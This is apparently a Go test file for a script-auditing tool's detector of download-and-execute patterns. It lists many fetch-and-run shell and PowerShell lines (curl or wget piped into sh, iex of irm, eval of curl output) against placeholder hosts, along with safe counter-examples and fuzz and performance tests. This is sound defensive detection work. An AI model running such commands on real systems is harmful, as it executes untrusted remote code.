package shell

import (
	"strings"
	"testing"
	"time"

	"github.com/tauriaudit/tauriaudit/internal/testenv"
)

// runText renders what Runs finds as "line:text" (and "<-line" for the
// download of a file or variable run later).
func runText(script string) []string {
	lines := strings.Split(script, "\n")
	var out []string
	for _, r := range Runs(lines) {
		s := lines[r.Line][r.Start:r.End]
		if r.Download != nil {
			s += " <-" + string(rune('0'+r.Download.Line))
		}
		out = append(out, s)
	}
	return out
}

func TestRunsPositive(t *testing.T) {
	for script, want := range map[string]string{
		// pipes, through other stages and sudo
		`curl -fsSL https://x.example/i.sh | tee i.log | sh`:  `curl -fsSL https://x.example/i.sh | tee i.log | sh`,
		`curl -sL https://x.example/i | sudo bash -s --`:      `curl -sL https://x.example/i | sudo bash`,
		`wget -O- https://x.example/i | sh`:                   `wget -O- https://x.example/i | sh`,
		`irm https://x.example/i.ps1 | iex`:                   `irm https://x.example/i.ps1 | iex`,
		"curl -s https://x.example/a.gz | gunzip | python3 -": "curl -s https://x.example/a.gz | gunzip | python3",
		// substitutions
		`eval "$(curl -fsSL https://x.example/env)"`:                     `eval "$(curl`,
		"eval `wget -qO- https://x.example/env`":                         "eval `wget",
		`sh -c "$(curl -fsSL https://x.example/i.sh)"`:                   `sh -c "$(curl`,
		`/bin/bash -x -c "$(curl -fsSL https://x.example/i.sh)"`:         `bash -x -c "$(curl`,
		`bash <(curl -s https://x.example/i.sh)`:                         `bash <(curl`,
		`bash < <(curl -s https://x.example/i.sh)`:                       `bash < <(curl`,
		`source <(curl -s https://x.example/i.sh)`:                       `source <(curl`,
		`. <(wget -qO- https://x.example/i.sh)`:                          `. <(wget`,
		`bash <<< "$(curl -s https://x.example/i.sh)"`:                   `bash <<< "$(curl`,
		`python3 -c "$(curl -s https://x.example/i.py)"`:                 `python3 -c "$(curl`,
		`iex (iwr https://x.example/i.ps1)`:                              `iex (iwr`,
		`Invoke-Expression (Invoke-WebRequest https://x/i).Content`:      `Invoke-Expression (Invoke-WebRequest`,
		`(New-Object Net.WebClient).DownloadString('https://x/i') | iex`: `DownloadString('https://x/i') | iex`,
		`iex "& { $(irm https://x.example/i.ps1) } -Force"`:              `iex "& { $(irm`,
		`& ([scriptblock]::Create((irm https://x.example/i.ps1)))`:       `[scriptblock]::Create((irm`,
		// download, then run in the same script
		`curl -o x.sh https://x.example/x.sh && sh x.sh`:                                       `sh x.sh <-0`,
		"curl -fsSLo /tmp/i.sh https://x.example/i.sh\nbash /tmp/i.sh":                         `bash /tmp/i.sh <-0`,
		"curl -LO https://x.example/get.sh\nchmod +x get.sh\n./get.sh":                         `./get.sh <-0`,
		"wget https://x.example/tool; chmod +x tool; ./tool --init":                            `./tool --init <-0`,
		"curl https://x.example/i.sh > i.sh\nsudo sh ./i.sh -y":                                `sudo sh ./i.sh -y <-0`,
		"wget -qO get-pip.py https://bootstrap.pypa.io/get-pip.py\npython get-pip.py":          `python get-pip.py <-0`,
		`iwr https://x.example/x.ps1 -OutFile x.ps1; ./x.ps1`:                                  `./x.ps1 <-0`,
		"Invoke-WebRequest -Uri https://x/s.ps1 -OutFile $env:TEMP\\s.ps1\n& $env:TEMP\\s.ps1": `$env:TEMP\s.ps1 <-0`,
		"iwr https://x/i.ps1 -OutFile i.ps1\npwsh -NoProfile -File .\\i.ps1":                   `pwsh -NoProfile -File .\i.ps1 <-0`,
		"iwr https://x/setup.msi -OutFile setup.msi\nmsiexec /i setup.msi /qn":                 `msiexec /i setup.msi /qn <-0`,
		// variables
		"S=$(curl -fsSL https://x.example/i.sh)\neval \"$S\"":      `eval "$S <-0`,
		"$s = (iwr https://x.example/i.ps1).Content\niex $s":       `iex $s <-0`,
		"$wc = irm https://x.example/i.ps1; Invoke-Expression $wc": `Invoke-Expression $wc <-0`,
	} {
		got := runText(script)
		if len(got) != 1 || got[0] != want {
			t.Errorf("Runs(%q) = %q, want [%q]", script, got, want)
		}
	}
}

func TestRunsNegative(t *testing.T) {
	for _, script := range []string{
		"curl -fsSLo i.sh https://x.example/i.sh\necho \"abc  i.sh\" | sha256sum --check\nsh i.sh",
		"curl -fsSLo i.sh https://x.example/i.sh && sha256sum -c i.sh.sha256 && sh i.sh",
		"iwr https://x/i.ps1 -OutFile i.ps1\nif ((Get-FileHash i.ps1).Hash -ne $want) { throw }\n./i.ps1",
		"curl -o data.json https://x.example/data.json\njq . data.json",
		"wget https://x.example/tool.tar.gz\ntar xzf tool.tar.gz",
		"curl -s https://x.example/v | python3 -c 'import sys; print(sys.stdin.read())'",
		"curl -sf https://x.example/health || sh ./fallback.sh",
		"curl -s -o /dev/null https://x.example/ping\nsh ./build.sh",
		"V=$(curl -s https://api.example.com/version)\necho \"$V\"",
		"sh ./i.sh\ncurl -o i.sh https://x.example/i.sh",
		"curl -o x.sh https://x.example/x.sh && bash -c 'echo x.sh'",
		"# curl -fsSL https://x.example/i.sh | sh",
		`echo "install it with: curl -fsSL https://x.example/i.sh | sh"`,
		`Write-Host "run: iex (irm https://x.example/i.ps1)"`,
	} {
		if got := runText(script); len(got) != 0 {
			t.Errorf("Runs(%q) = %q, want none", script, got)
		}
	}
}

// TestRunsHostileLinear: 100k pipes, deep $(…) nesting and many
// downloads stay within a CPU-time bound.
func TestRunsHostileLinear(t *testing.T) {
	pipes := "curl https://x/i" + strings.Repeat(" | tee a", 100_000) + " | cat"
	nested := strings.Repeat("$(curl ", 20_000) + strings.Repeat(")", 20_000)
	evals := strings.Repeat(`eval "$(`, 30_000) + "curl x"
	many := make([]string, 0, 20_000)
	for range 10_000 {
		many = append(many, "curl -o f.sh https://x/f.sh", "X=$(curl https://x/v)")
	}
	clock := testenv.StartCPU()
	Runs([]string{pipes, nested, evals, strings.Repeat("||", 200_000), strings.Repeat("${{", 100_000)})
	Runs(many)
	Split(pipes)
	Split(nested)
	if d := clock.Elapsed(); d > testenv.CPULimit(10*time.Second) {
		t.Errorf("hostile scripts took %v of CPU", d)
	}
}

// FuzzRuns: the download-and-run analysis must not panic on any script,
// and every span lies inside its line.
func FuzzRuns(f *testing.F) {
	for _, s := range []string{"curl -o x https://a/x\n./x", `eval "$(curl`, "X=$(curl u)\neval $X", "iwr u -OutFile\n&",
		strings.Repeat("| ", 50) + "sh", strings.Repeat("$(", 40), `iex "$(irm`, "curl -o\n", "wget -O", "> \n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		lines := strings.Split(s, "\n")
		for _, r := range Runs(lines) {
			if r.Line < 0 || r.Line >= len(lines) || r.Start < 0 || r.Start > r.End || r.End > len(lines[r.Line]) {
				t.Fatalf("run %+v outside %q", r, s)
			}
			if d := r.Download; d != nil && (d.Line > r.Line || d.Start < 0 || d.Start > d.End || d.End > len(lines[d.Line])) {
				t.Fatalf("download %+v outside %q", d, s)
			}
		}
	})
}
